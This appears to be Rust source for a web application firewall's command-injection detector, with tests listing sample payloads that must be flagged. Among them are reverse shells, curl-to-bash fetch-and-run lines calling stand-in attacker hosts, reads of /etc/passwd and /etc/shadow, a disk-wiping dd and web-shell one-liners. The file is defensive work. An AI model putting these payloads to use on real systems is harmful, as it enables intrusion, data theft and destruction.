    static TRAILING: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(|| {
        regex::Regex::new(r"(^|[\s;|&])([\w./-]*)(\w)``(\s|$|[;|&<>])").ok()
    });
    let mut out = std::borrow::Cow::Borrowed(s);
    if s.contains('$')
        && let Some(re) = EMPTY.as_ref()
        && let std::borrow::Cow::Owned(o) = re.replace_all(&out, "''")
    {
        out = std::borrow::Cow::Owned(o);
    }
    if memchr::memchr3(b'`', b'<', b'>', s.as_bytes()).is_none() {
        return out;
    }
    if (s.contains("``") || s.contains('('))
        && let Some(re) = GLUED.as_ref()
    {
        for _ in 0..4 {
            match re.replace_all(&out, "${1}''${2}") {
                std::borrow::Cow::Owned(o) => out = std::borrow::Cow::Owned(o),
                std::borrow::Cow::Borrowed(_) => break,
            }
        }
    }
    if s.matches("``").count() % 2 == 1
        && let Some(re) = TRAILING.as_ref()
        && let std::borrow::Cow::Owned(o) = re.replace_all(&out, "${1}${2}''${3}${4}")
    {
        out = std::borrow::Cow::Owned(o);
    }
    out
}

fn is_trigger(c: u8) -> bool {
    TRIGGERS.contains(&c)
}

/// Where a shell word ends.
fn is_separator(c: char) -> bool {
    c.is_whitespace() || matches!(c, ';' | '|' | '&' | '`' | '(' | ')' | '$' | '{' | '}' | ',')
}

/// One word of `obfuscated_command`: quoting or a glob class inside it, and a
/// command once they are removed.
fn hides_command(cmd: &regex::Regex, w: &str) -> bool {
    // Most words have no mark at all: done before trimming.
    if w.len() < 3 || w.len() > 64 || !w.bytes().any(is_trigger) {
        return false;
    }
    // `COMMAND` reads word characters, `.`, `/` and `-` alone, and the cleaning
    // below takes marks away and nothing else: a word holding other ASCII
    // punctuation (`href="x">`, `id='a'`) is no command whatever it hides.
    if w.bytes()
        .any(|c| c.is_ascii() && !c.is_ascii_alphanumeric() && !b"_./-'\"\\^[]".contains(&c))
    {
        return false;
    }
    // A word quoted whole (`'cat'`, `"id"`) is that word, and so is one that
    // quotes end (TeX's ``` ``/bin/cat'' ```); a quote opening a word that goes
    // on past its close hides the command (`'c'url`).
    let is_quote = |c: char| matches!(c, '\'' | '"');
    let whole = w.starts_with(is_quote) && w.ends_with(is_quote);
    let inner = if whole {
        w.trim_matches(is_quote)
    } else {
        w.trim_end_matches(is_quote)
    };
    let opens = !whole && w.starts_with(is_quote);
    if !inner.bytes().any(is_trigger) {
        return false;
    }
    // With no escape in the word, every quote is a mark: an odd count of either
    // kind is the apostrophe left open of below (`O'Brien`, `Don't`), told
    // without cleaning the word.
    let bytes = inner.as_bytes();
    if !bytes.iter().any(|&c| c == b'\\' || c == b'^') {
        let odd = |quote: u8| bytes.iter().filter(|&&c| c == quote).count() % 2 == 1;
        if odd(b'\'') || odd(b'"') {
            return false;
        }
    }
    let mut cleaned = Cleaned::default();
    let mut chars = inner.chars();
    let mut first = true;
    while let Some(c) = chars.next() {
        match c {
            // `\x` and cmd.exe's `^x` are the letter x itself: the mark goes, what
            // it escapes stays, even a quote (`I\'d` is `I'd`, not `Id`).
            '\\' | '^' => {
                cleaned.marks += 1;
                cleaned.escape_inside |= !first;
                if let Some(next) = chars.next() {
                    cleaned.push(next);
                }
            }
            '\'' => {
                cleaned.marks += 1;
                cleaned.singles += 1;
            }
            '"' => {
                cleaned.marks += 1;
                cleaned.doubles += 1;
            }
            // `[a]`: a glob class of one letter matches that letter.
            '[' => {
                let mut ahead = chars.clone();
                match (ahead.next(), ahead.next()) {
                    (Some(l), Some(']')) if l.is_ascii_alphanumeric() => {
                        cleaned.marks += 1;
                        cleaned.push(l);
                        chars = ahead;
                    }
                    _ => cleaned.push(c),
                }
            }
            _ => cleaned.push(c),
        }
        first = false;
    }
    // A quote left open is an apostrophe (`string's` is not `strings`): the
    // shell would not run the word at all.
    if cleaned.singles % 2 == 1 || cleaned.doubles % 2 == 1 {
        return false;
    }
    let Some(text) = cleaned.text() else {
        return false;
    };
    // Two letters left by one mark are a command only when an escape sits inside
    // the word (`l\s`, `i^d`); one quote there is an apostrophe (`I'd`), and a
    // leading backslash a TeX macro (`\rm`). A quoted word's opening letter is
    // a quotation's first word (`'I'd rather not'`) when two letters are left.
    let enough = text.len() >= 3 || (!opens && (cleaned.marks >= 2 || cleaned.escape_inside));
    enough && cmd.is_match(text)
}

/// A word with its shell quoting removed, lowercased, on the stack (words are at
/// most 64 bytes; longer text is never a command).
struct Cleaned {
    buf: [u8; 64],
    len: usize,
    marks: usize,
    singles: usize,
    doubles: usize,
    escape_inside: bool,
    overflow: bool,
}

impl Default for Cleaned {
    fn default() -> Self {
        Cleaned {
            buf: [0; 64],
            len: 0,
            marks: 0,
            singles: 0,
            doubles: 0,
            escape_inside: false,
            overflow: false,
        }
    }
}

impl Cleaned {
    fn push(&mut self, c: char) {
        for l in c.to_lowercase() {
            let mut utf8 = [0u8; 4];
            for &b in l.encode_utf8(&mut utf8).as_bytes() {
                match self.buf.get_mut(self.len) {
                    Some(d) => {
                        *d = b;
                        self.len += 1;
                    }
                    None => self.overflow = true,
                }
            }
        }
    }

    fn text(&self) -> Option<&str> {
        if self.overflow {
            return None;
        }
        std::str::from_utf8(&self.buf[..self.len]).ok()
    }
}

#[cfg(test)]
mod tests {
    use super::{COMMAND, any_word_hides_command, empty_expansions, obfuscated_command};
    use crate::waf::rules::fires;

    #[test]
    fn a_shellshock_definition_fires_but_code_with_empty_parentheses_does_not() {
        assert!(fires(932170, "() { :; }; /bin/cat /etc/passwd"));
        assert!(fires(932170, "() { _; } >_[$($())] { id; }"));
        assert!(fires(932170, " () {x;} echo"));
        assert!(!fires(932170, "call f() { in a block }"));
        assert!(!fires(932170, "() => { return 1 }"));
    }

    #[test]
    fn a_short_command_redirected_after_a_separator_fires() {
        assert!(fires(932100, ";id>/tmp/x"));
        assert!(fires(932100, ";exec id"));
        assert!(!fires(932100, "; exec summary"));
        assert!(fires(932100, "|ls > out.txt"));
        assert!(!fires(932100, "a;id>"));
        assert!(!fires(932100, "x; w<3"));
        assert!(fires(932100, "&set"));
        assert!(fires(932100, "a&cmd,/c,whoami"));
        assert!(!fires(932100, "builder.retain_set(&set);"));
        assert!(!fires(932100, "parse_ref(&cmd, arg)"));
    }

    #[test]
    fn empty_expansions_inside_a_command_word_fire_but_prices_and_text_ones_do_not() {
        for a in [
            "www.example.com;c$@at /et$@c/pas$@swd",
            "c$*at /etc/passwd",
            "who$1ami",
            "c${x}url http://evil.example/x.sh",
            "pi<()ng 127.0.0.1",
            "pi<( )ng 127.0.0.1",
            "p<()i<()ng 127.0.0.1",
            "w``h``oami",
            "x|ping``|",
            "wh>()oami",
            "ping`` 127.0.0.1",
            ";whoami``",
        ] {
            assert!(obfuscated_command(a), "missed {a}");
        }
        for b in [
            "costs US$9 or $5",
            "s/(\\w+)/$1/g",
            "echo $1 and $@",
            "c$$at is a pid",
            "Hello ${name}, welcome",
            "a<()b is no command",
            "f(x) => g(y)",
            "``ping`` 127.0.0.1 answers",
            "Run ``docker ps`` to list containers.",
            "Run ``sudo whoami`` to check your user.",
            "Pipe it into ``sort | uniq``, see ``man curl``",
            "the ``ls`` listing",
        ] {
            assert!(!obfuscated_command(b), "flagged {b}");
        }
    }

    #[test]
    fn quoting_inside_a_command_word_fires_but_apostrophes_in_prose_do_not() {
        for a in [
            "w'h'o'am'i",
            "wh\\oami",
            "who^ami",
            "; c'a't /etc/passwd",
            "'c'url localhost",
            "\"wh\"oami",
            "x|bin/w\"ge\"t http://e.example/x",
            "caf\u{e9} && c\"a\"t x",
            ";{l\\s,-la}",
            "i^d",
            ";/bin/c[a]t /etc/pa[s]swd",
            "[w]h[o]ami",
            "caf\u{e9} l\\s",
            // An empty command substitution inside the word.
            "pi``ng 127.0.0.1",
            ";w$()hoami",
        ] {
            assert!(obfuscated_command(a), "missed {a}");
        }
        for b in [
            "Patrick O'Brien",
            "Don't ring the bell, it's late",
            "I'd say \"cat\" is a pet",
            "I\\'d say so",
            "the string's length",
            "'I'd rather not,' she said",
            "'cat's toy'",
            "if you execute ``bzexe /bin/cat'' it",
            "wh'oami",
            "{\\rm roman} and \\sl",
            "x = p[s] + d[d]",
            "- [x] ls done",
            "'cat'",
            "caf\u{e9} d'Orsay",
            "",
            // Markdown's and reST's double-backtick code spans.
            "run ``ls -la`` first",
            "Supports ``GET``/``HEAD`` requests only.",
            "Fetch with ``curl``/``wget`` first.",
            "The ``tar``\\ ball",
            "```bash\nls\n```",
        ] {
            assert!(!obfuscated_command(b), "flagged {b}");
        }
    }

    #[test]
    fn reading_only_the_words_with_marks_agrees_with_reading_every_word() {
        let Some(cmd) = COMMAND.as_ref() else {
            panic!("command regex")
        };
        let words = [
            "c'a't",
            "'cat'",
            "O'Brien",
            "wh\\oami",
            "who^ami",
            "w\"ge\"t",
            "x",
            "''",
            "a'b",
            "p'i'n'g",
            "/bin/c'a't",
            "n''c",
            "\"",
            "sl\\eep",
            "l\\s",
            "I\\'d",
            "c[a]t",
            "p[s]",
            "[",
        ];
        let separators = [
            " ", ";", "|", "\t", "\u{b}", "(", ")", "$", "{", "}", ",", "&", "`", "-",
        ];
        for a in words {
            for sep in separators {
                for c in words {
                    for s in [
                        format!("{a}{sep}{c}"),
                        format!("{sep}{a}{sep}{sep}{c}{sep}"),
                        format!("{a}{c}{sep}"),
                    ] {
                        assert_eq!(
                            obfuscated_command(&s),
                            any_word_hides_command(cmd, &empty_expansions(&s)),
                            "{s:?}"
                        );
                    }
                }
            }
        }
    }

    #[test]
    fn yaml_tags_that_build_language_objects_fire() {
        for a in [
            "!!python/object/new:exec [import socket]",
            "!!python/object/apply:os.system ['id']",
            "--- !ruby/object:Gem::Installer",
            "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]",
        ] {
            assert!(fires(932210, a), "missed {a}");
        }
        for b in ["!!str 5", "!!python is fun", "key: !!int 3"] {
            assert!(!fires(932210, b), "flagged {b}");
        }
    }

    #[test]
    fn server_and_edge_side_includes_fire() {
        assert!(fires(932200, "<!--#exec cmd=\"ls\" -->"));
        assert!(fires(
            932200,
            "<esi:include src=\"http://bxss.me/rpb.png\"/>"
        ));
        assert!(!fires(932200, "<!-- # note -->"));
    }

    #[test]
    fn a_command_in_backticks_fires_but_markdown_inline_code_does_not() {
        for a in [
            "`id`",
            "x`id`",
            "`id`;ls",
            "\"`whoami`\"",
            "`uname -a`",
            "'`id`'",
            "`id`x",
            "`id` ",
        ] {
            assert!(fires(932100, a), "932100 missed {a}");
        }
        for a in [
            "`id`",
            "{,ifconfig}",
            "{,$'whoami',}",
            "{,echo,#test}",
            "{,,ifconfig}",
            "tee >(\"nc\" evil.example 9)",
            "a=`id`",
            "`id`|x",
            "'`ls`'",
            "ax--exec=`id`--remote=origin",
            "<(cmd)",
            "diff <(sort a) <(sort b)",
            "tee >(nc evil.example 9)",
            "$0<<<$\\'\\\\$(($((1<<1))#10011010))\\'",
            "$((2#1100011))",
        ] {
            assert!(fires(932130, a), "932130 missed {a}");
        }
        for b in [
            "`id` is the primary key",
            "The [`Date`] type",
            "`ls` lists files",
            "`uptime` and `hostname` are shown",
            "`id`, `name` and `email` are required",
            "(see `id`)",
            "the key (`id`) is required",
            "the `id`'s type",
            "default to `true`; set `DOTENV_QUIET=false`",
            "an `id`-based lookup",
            "items.map(x =>(id) + 1)",
            "$obj->(cat)",
            "a <(b) c",
            "if(i<(last-1)) return;",
            "for(i=0;i<(free-1);i++)",
            "so angry >( who does that",
            "x <(cut-off)",
            "{,a,b}",
            "f({, cat})",
        ] {
            assert!(!fires(932100, b) && !fires(932130, b), "flagged {b}");
        }
    }

    #[test]
    fn globs_that_hide_a_path_fire_but_file_globs_in_config_do_not() {
        for a in [
            "/???/??t /???/??ss??",
            ";cat /e*c/pa*wd",
            "/bin/c?t /etc/passwd",
            "/?in/ca? /et?/pa??wd",
            "1001 union/*/**/*/select 1",
        ] {
            assert!(fires(932150, a), "missed {a}");
        }
        // package.json scripts, tsconfig includes, CI path filters.
        for b in [
            "eslint \"lib/**/*.ts\" \"spec/**/*.*s\"",
            "prettier --write \"./**/*.{json,yaml,js,ts}\"",
            "src/**/*",
        ] {
            assert!(!fires(932150, b), "flagged {b}");
        }
    }

    #[test]
    fn a_command_reading_a_sensitive_file_through_a_redirect_fires() {
        assert!(fires(932160, ";cat</etc/passwd"));
        assert!(fires(932160, ";cat</e''tc/p''asswd"));
        assert!(fires(932160, "tail < /proc/self/environ"));
        assert!(!fires(932160, "the cat < the dog, /etc/passwd aside"));
    }

    #[test]
    fn a_recon_command_after_a_lone_redirect_or_separator_fires() {
        assert!(fires(932107, "<uname -a;"));
        assert!(fires(932107, "|netstat -an"));
        assert!(fires(932107, "uname -a"));
        assert!(!fires(932107, "<uname> tag"));
        assert!(!fires(932107, "whoami is a command"));
        assert!(fires(932107, "127.0.0.1|echo 2z5avdg5"));
        assert!(fires(932107, "10.0.0.1;sleep 5"));
        assert!(!fires(932107, "10.0.0.1; 10.0.0.2"));
        assert!(!fires(932107, "10.0.0.1;catalog.example"));
        assert!(fires(932107, " ping -c 5 localhost"));
        assert!(fires(932107, "/usr/sbin/ping -s localhost 5"));
        assert!(!fires(932107, "ping me at localhost:3000 later"));
        // Windows spells the program with its extension.
        assert!(fires(932107, "ping.exe -n 31 127.0.0.1"));
        assert!(fires(932107, "ipconfig.exe /all"));
        assert!(!fires(932107, "setup.exe -n 5"));
        assert!(fires(932107, "/usr/bin/id|"));
        // A reconnaissance command with a separator glued to it and more after
        // it, or only separators to the end.
        assert!(fires(932107, "whoami;0'0'\""));
        assert!(fires(932107, "uname|"));
        assert!(fires(932100, ";lastlog -u root"));
        assert!(!fires(932107, "whoami is a command"));
        assert!(!fires(932107, "netstat, ss and ip"));
        for b in [
            "Netstat & Wireshark basics",
            "Whoami; a podcast",
            "Uname|OS|Version",
        ] {
            assert!(!fires(932107, b), "flagged {b:?}");
        }
        // An archiver given a system directory after its other arguments; a
        // system program reading a system file.
        assert!(fires(932107, "tar -xzf /var/www/exfiltrate.tar.gz /etc"));
        assert!(fires(932107, "/bin/zcat -f /etc/shadow.gz"));
        assert!(!fires(932107, "tail -f /var/log/app.log"));
        assert!(fires(932107, "tar czf /tmp/x.tgz /etc"));
        assert!(!fires(932107, "ls /usr/share /etc"));
        assert!(!fires(932107, "mv /tmp/x /etc/"));
        assert!(!fires(932107, "more info /etc/hosts"));
        assert!(!fires(932107, "/usr/bin/python3 -m http.server"));
        assert!(fires(932107, "/bin/cat /etc/hosts;"));
        assert!(!fires(932107, "/usr/bin/python3"));
        assert!(!fires(932107, "see /usr/bin/env | grep"));
    }

    #[test]
    fn a_whole_value_time_delay_fires_but_prose_about_sleep_does_not() {
        assert!(fires(932111, "sleep 5"));
        assert!(fires(932111, "<sleep 5;"));
        assert!(fires(932111, "'sleep 5'"));
        assert!(fires(932111, "| timeout /t 10"));
        assert!(!fires(932111, "sleep 8 hours"));
        assert!(!fires(932111, "sleep apnea treatment"));
        assert!(!fires(932111, "sleep"));
    }

    #[test]
    fn windows_batch_loops_and_conditions_fire_but_code_and_prose_do_not() {
        for a in [
            "& FOR /F \"tokens=1-3\" %A IN (\"jejeje brbr\") DO @echo pwnd",
            "for %%G in (Sun Mon) do echo %%G",
            "For /R C:\\temp\\ %G IN (*.bak) do del %G",
            "IF EXIST \"temp.txt\" ECHO found",
            "IF NOT DEFINED _example ECHO Value Missing",
            "if %n1% gtr %n2% echo greater",
            "IF /I \"%var%\"==\"hello\" ( ECHO found )",
            "if (AA) == (AA) echo same",
            "IF ERRORLEVEL 3 IF NOT ERRORLEVEL 4 echo x",
            "IF EXIST C:\\pagefile.sys (CMD) ELSE (CMD)",
            // Any command after a loop; a long variable name; a block opened.
            "for /d %variable in (set) do command",
            "for %%variable in (set) do command",
            "for /l %i in (1,1,2) do calc",
            "FOR /F \"tokens=1,2* delims=,\" %% IN (C:\\a.txt) DO ECHO %%",
            "IF        EXIST filename.txt     (",
            "IF (2 GEQ 15) echo \"bigger\"",
            "IF \"%var%\"==\"\" (SET var=default value)",
            "for %i in (calc) do %i",
            "for %i in (1) do(calc)",
            "for %i in (a) do &calc",
            "if not \"A%1\" == \"A\" (",
        ] {
            assert!(fires(932141, a), "missed {a:?}");
        }
        for b in [
            "for each item in (list) do something",
            "if (a == b) { return 1; }",
            "if x == 1:\n    print(x)",
            "if a == b then c",
            "if defined by the user, the value wins",
            "Let us know if exist-checks fail",
            "30% off for 2 in (a) box",
            // One-line bodies in C, JS and Python; LaTeX; prose.
            "if (argc == 1) exit(1);",
            "if (x == 0) type = \"zero\";",
            "if (state == 'idle') start();",
            "if x == 1: exit()",
            "if __name__ == \"__main__\": start()",
            "if a == b (mod n) then",
            "The bound holds if $n \\geq 2$.",
            "if defined here, set the value in config.yaml",
            "If not defined explicitly, type will be inferred",
            "how to check if errorlevel is set in batch",
            "printf(\"for %s in (%s) do %s\", a, b, c)",
            "for %s in (%s) do",
            "if x == (\n  1, 2): pass",
            "if x == y (",
            "if this == that (",
        ] {
            assert!(!fires(932141, b), "flagged {b:?}");
        }
    }

    #[test]
    fn windows_delays_and_awk_sockets_fire_but_prose_does_not() {
        assert!(fires(932110, "; waitfor /t 5 pause"));
        assert!(fires(932110, "&waitfor SomethingThatNeverHappens /t 10"));
        assert!(fires(932110, "; choice /t 5 /d y"));
        assert!(fires(932110, "|choice /c yn /d y /t 5"));
        assert!(!fires(932110, "a choice to wait for the train"));
        assert!(!fires(932110, "we waitfor nobody; choice is yours"));
        assert!(fires(
            932140,
            "awk 'BEGIN {s = \"/inet/tcp/0/evil.com/4444\"}'"
        ));
        assert!(!fires(932140, "the /inet/ folder"));
    }

    #[test]
    fn recon_commands_fire_but_prose_about_them_does_not() {
        assert!(fires(932112, ";find / -name '*.conf' 2>/dev/null"));
        assert!(fires(932112, "find / -perm -4000 -type f"));
        assert!(fires(932112, "| find . -writable"));
        assert!(fires(932112, ";ip addr"));
        assert!(fires(932112, "&& ip -4 route show"));
        assert!(fires(932112, "; ss -tlnp"));
        assert!(!fires(932112, "find a place to stay -name unknown"));
        assert!(!fires(932112, "what is my ip address"));
        assert!(!fires(932112, "ip addr"));
        assert!(!fires(932112, "to find / -name things, see the manual"));
    }

    #[test]
    fn a_command_with_a_number_then_a_shell_comment_fires() {
        assert!(fires(932105, "1|sleep 5#"));
        assert!(fires(932105, "1|sleep 5"));
        assert!(!fires(932105, "sleep 5# hours"));
        // Input redirected from a file.
        assert!(fires(932105, "view=image.jpg&sort < file.txt"));
        assert!(fires(932105, ";cat <~/notes.md"));
        assert!(!fires(932105, "a & sort < 5 items"));
        assert!(!fires(932105, "Tom & Jerry <3"));
        assert!(fires(932105, "view=image.jpg&sort<file"));
        assert!(fires(932105, "&sort 0< file.backup"));
        assert!(!fires(932105, "Q&A; more <details.md"));
        assert!(!fires(932105, "news & more <example.com>"));
    }

    #[test]
    fn powershell_sleep_fires_but_prose_does_not() {
        assert!(fires(932120, "; Start-Sleep -s 5"));
        assert!(fires(932120, "powershell start-sleep 10"));
        assert!(!fires(932120, "start sleeping at 10"));
        assert!(fires(932120, "Widget';get-help"));
        assert!(!fires(932120, "how to get-help online"));
    }

    #[test]
    fn powershell_aliases_as_commands_fire_but_the_letters_in_prose_do_not() {
        for a in [
            ";iwr http://example.com/path/file.ps1",
            "iwmi -class Win32_process -name Create -ArgumentList cmd",
            "| irm https://evil.example/x | iex",
            "Invoke-WmiMethod -Class Win32_Process -Name Create",
        ] {
            assert!(fires(932120, a), "missed {a:?}");
        }
        for b in [
            "IWR is a unit",
            "see the icm -- conference",
            "firmware irm http",
        ] {
            assert!(!fires(932120, b), "flagged {b:?}");
        }
    }

    #[test]
    fn a_command_line_after_a_leading_separator_fires_but_text_and_tables_do_not() {
        for a in [
            ";echo vulnerable",
            "| echo injected",
            "& echo test",
            "; dig evil.com",
            "| nc evil.com 80",
            ";kill -9 1",
            ";killall -9 httpd",
            ";eval 'id'",
            ";history",
            ";getfacl /",
            "& start calc",
            "& calc.exe",
            "| notepad",
            ";xdg-open http://evil.com",
            ";open -a Calculator",
            ";osascript -e 'do shell script \"id\"'",
            ";shutdown -h now",
            ";reboot",
            ";init 0",
            ";passwd root",
            ";dd if=/dev/zero of=/dev/sda",
            "<sleep 5;",
        ] {
            assert!(fires(932113, a), "missed {a}");
        }
        for b in [
            "| echo | prints its arguments |",
            "& more info",
            "; start here",
            "& open source projects",
            "&amp; echo",
            "echo chamber",
            "tom & jerry",
            "; kill the lights",
            "<echo>",
            "| find a place | near you |",
        ] {
            assert!(!fires(932113, b), "flagged {b}");
        }
    }

    #[test]
    fn a_command_line_piped_into_a_shell_fires_but_prose_and_tables_do_not() {
        for a in [
            "time whoami | sh",
            "nohup whoami | sh",
            "echo \"foo;whxam\"i | tr x o | sh #\"",
            "whxami|sh ``",
            "curl -s http://evil.example/x | bash",
            "wget -qO- http://evil.example/x|/bin/sh",
        ] {
            assert!(fires(932115, a), "missed {a:?}");
        }
        for b in [
            "the shell (sh) is fine",
            "| name | shell |\n| a | sh |",
            "pipe it to sh later, or not",
            "x | shell",
        ] {
            assert!(!fires(932115, b), "flagged {b:?}");
        }
    }

    #[test]
    fn a_here_string_fed_to_a_command_fires_but_conflict_markers_do_not() {
        for a in [
            "cat<<<ifconfig | sh",
            ";gcc10.1<<<void main(){}",
            ";irb<<<1 2",
            "cat <<< 'id'",
        ] {
            assert!(fires(932116, a), "missed {a:?}");
        }
        for b in ["<<<<<<< HEAD", "text <<<<<<< ours", "a << b", "1 <<< 2"] {
            assert!(!fires(932116, b), "flagged {b:?}");
        }
    }

    #[test]
    fn a_recon_command_run_through_another_program_fires_but_prose_does_not() {
        for a in [
            "nohup ifconfig",
            "strace whoami",
            "ti''me whoami",
            ";cpulimit -l 100 -f whoami",
            ";gdb -nx -ex \\!whoami -ex quit",
            ";flock -u / whoami",
        ] {
            assert!(fires(932117, a), "missed {a:?}");
        }
        for b in [
            "time who",
            "what time is it? whoami said",
            "nice ifconfig output, thanks",
            "run whoami to see your user",
        ] {
            assert!(!fires(932117, b), "flagged {b:?}");
        }
        assert!(fires(932140, "d=/dev&&(sh)0>$d/tcp/51.15.142.164/777"));
        // A shell running a script dropped in a temporary directory.
        assert!(fires(932140, "bash /tmp/evil.sh"));
        // GNU tar runs a command at a checkpoint.
        assert!(fires(
            932140,
            ";tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=id"
        ));
        assert!(fires(932140, "x; sh -x /dev/shm/.a"));
        for a in [
            "tar cf x y --checkpoint=1 --checkpoint-action exec=id",
            "tar cf x y --checkpoint=1 --checkpoint-act=exec=id",
            ". /tmp/x.sh",
            ";source /tmp/x.sh",
            "bash -- /tmp/x.sh",
            "bash < /tmp/x.sh",
            "sh /./tmp/x.sh",
        ] {
            assert!(fires(932140, a), "missed {a:?}");
        }
        assert!(!fires(932140, "bash /home/me/build.sh"));
        assert!(!fires(932140, "the fish /tmp folder"));
        assert!(!fires(932140, "$5/tcp/80 per month"));
    }

    #[test]
    fn a_command_glued_from_variables_fires() {
        assert!(fires(932108, ";a=i;b=d;$a$b"));
        assert!(fires(932108, "|${x}${y}"));
        // Its arguments glued from variables too.
        assert!(fires(932108, "a=/etc&&b=/passwd&&c=cat&&$c $a$b"));
        assert!(!fires(932108, "x=1 && $EDITOR notes.txt"));
        assert!(!fires(932108, "costs $5 or $10"));
        assert!(!fires(932108, "$a$b"));
    }

    #[test]
    fn a_command_stored_in_a_variable_or_alias_and_run_by_its_name_fires() {
        for a in [
            "a=nc&&$a -nlvp 555",
            ";c='curl';$c evil.example",
            "a=nc\n$a -nlvp 555",
            ";a=/bin/nc;$a -e /bin/sh x 1",
            ";a=\"nc\";\"$a\" -nlvp 555",
            ";export c=curl;${c} evil.example",
            "alias \"quote\"=curl&quote google.com",
        ] {
            assert!(fires(932104, a), "missed {a:?}");
        }
        for b in [
            "x=1; $x apples",
            "name=cat and $name food",
            "a=nc; $b -l",
            "EDITOR=vim; $EDITOR notes.txt",
            "mode=file; $mode is set",
            "alias ll='ls -l'",
            "alias ll='ls -la'\nalias gs='git status'",
            "the alias ls=list; see below",
        ] {
            assert!(!fires(932104, b), "flagged {b:?}");
        }
    }

    #[test]
    fn ansi_c_quoted_commands_fire() {
        assert!(fires(932108, ";$'\\151\\144'"));
        assert!(fires(932108, "$'\\x69\\x64'"));
        assert!(!fires(932108, "it costs $'5' or so"));
        assert!(!fires(932108, "$'\\n'"));
    }

    #[test]
    fn one_liners_running_a_request_parameter_fire_but_code_talk_does_not() {
        for a in [
            "import os;os.system(request.args.get('cmd'))",
            "import subprocess;subprocess.call(request.args.get('cmd'),shell=True)",
            "eval(compile(request.args.get('code'),'<string>','exec'))",
            "IO.popen(params[:cmd]).read",
            "eval(params[:code])",
            "Kernel.exec(params[:cmd])",
            "eval(req.query.code)",
            "<%Set o=Server.CreateObject(\"WSCRIPT.SHELL\"):Set r=o.Exec(Request(\"cmd\"))%>",
            "open(CMD,\"$input|\");while(<CMD>){print}",
            "Runtime.getRuntime().exec(request.getParameter(\"c\"))",
        ] {
            assert!(fires(932114, a), "missed {a}");
        }
        for b in [
            "the system (request queue) is full",
            "eval(code) runs a string",
            "open(FILE, \"<data.txt\")",
            "params[:id] is the record id",
            "compile request args into a report",
        ] {
            assert!(!fires(932114, b), "flagged {b}");
        }
    }
}
